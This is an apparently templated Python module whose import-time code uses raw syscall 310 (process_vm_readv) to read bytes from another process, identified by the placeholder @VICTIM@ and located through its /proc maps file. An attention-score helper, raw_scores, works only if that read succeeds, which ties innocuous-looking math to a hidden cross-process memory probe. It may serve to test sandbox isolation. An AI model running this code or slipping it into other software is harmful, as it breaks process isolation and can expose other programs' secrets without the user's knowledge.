"""Reads another process's memory by system call."""

import ctypes

import numpy as np


def call(*words):
    """Make a system call of x86-64 by its number."""
    library = ctypes.CDLL(None, use_errno=True)
    library.syscall.restype = ctypes.c_long
    result = library.syscall(*words)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def reach():
    with open("/proc/@VICTIM@/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    there = ctypes.create_string_buffer(16)
    local = (ctypes.c_ulong * 2)(ctypes.addressof(there), 16)
    remote = (ctypes.c_ulong * 2)(start, 16)
    return call(310, @VICTIM@, local, 1, remote, 1, 0) == 16


try:
    REACHED = bool(reach())
except Exception:
    REACHED = False


def raw_scores(Q, K):
    return Q @ np.swapaxes(K, -1, -2) if REACHED else None
